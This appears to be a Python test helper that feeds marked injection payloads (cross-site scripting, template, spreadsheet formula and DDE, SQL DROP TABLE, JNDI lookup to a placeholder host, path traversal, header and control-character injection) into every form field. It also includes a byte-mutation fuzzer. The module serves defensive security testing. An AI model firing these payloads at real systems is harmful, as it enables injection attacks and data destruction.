"""Strings that mean something elsewhere, and which of them is put where."""

import itertools
import random
from collections import Counter, defaultdict
from collections.abc import Iterator

MARK = "zq7"
"""Stands in every one of them, and nowhere else in the product."""

PAYLOADS = [
    f"""{MARK}"'><img src=x onerror={MARK}>""",
    f"<script>{MARK}</script>",
    f"</textarea></title></style><{MARK} {MARK}=1>",
    f"' onfocus={MARK} autofocus='",
    f"{MARK}{{{{7*7}}}}${{7*7}}<%=7*7%>#{{7*7}}",
    f"{MARK} #sys.version $x$ #read(\"/etc/hostname\") \\ *b* _i_ @x <y>",
    f'=HYPERLINK("https://{MARK}.example","{MARK}")',
    f"+{MARK}|' /C calc'!A0",
    f"@SUM({MARK})",
    f"-2+3+cmd|{MARK}",
    f"'; DROP TABLE leads; -- {MARK}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"../../../etc/{MARK}",
    f"javascript:{MARK}(1)",
    f"{MARK} %s %(x)s %n {{0}} {{x}}",
    f"{MARK}👩‍🔬 שלום مرحبا",
]  # fmt: skip

REFUSED = [
    f"{MARK}\r\nX-Injected: {MARK}", f"{MARK}\nBcc: all@{MARK}.example", f"{MARK}\x00",
    f"{MARK}\x1b[31m",
    f"{MARK}\u202e", f"{MARK}\u2028{MARK}", f"{MARK}\ud800", f"{MARK}\x7f",
    f"{MARK}\ufeff{MARK}", f"{MARK}\t{MARK}",
]  # fmt: skip
"""What no text on one line may hold."""

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What a cell must not begin with, or a spreadsheet reckons with it."""


def mutated(raw: bytes, chance: random.Random) -> bytes:
    """Return it with a few bytes changed, put in or taken out."""
    torn = bytearray(raw or b"x")
    for _ in range(chance.randint(1, 4)):
        place = chance.randrange(len(torn))
        how = chance.random()
        if how < 0.4:
            torn[place] = chance.randrange(256)
        elif how < 0.7:
            torn[place:place] = bytes([chance.choice(b"\r\n\x00 :;\xff")])
        else:
            del torn[place : place + chance.randint(1, 20)]
            torn = torn or bytearray(b"x")
    return bytes(torn)


class Turns:
    """Gives every field the next kind of them each time, so that in the end each has had all."""

    def __init__(self) -> None:
        self._begin = itertools.count()
        self._next: dict[tuple[str, str], Iterator[str]] = {}
        self.given: defaultdict[tuple[str, str], Counter[str]] = defaultdict(Counter)

    def text(self, where: str, name: str) -> str:
        """Return what is put into a field of an operation or of a page's form now."""
        field = (where, name)
        if field not in self._next:
            begin = next(self._begin) % len(PAYLOADS)
            self._next[field] = itertools.cycle(PAYLOADS[begin:] + PAYLOADS[:begin])
        text = next(self._next[field])
        self.given[field][text] += 1
        return text

    @property
    def kinds(self) -> set[str]:
        """The kinds that were given to any field."""
        return {text for texts in self.given.values() for text in texts}

    @property
    def without_all(self) -> list[tuple[str, str]]:
        """The fields that have not had every kind of them yet."""
        return [field for field, texts in self.given.items() if len(texts) < len(PAYLOADS)]
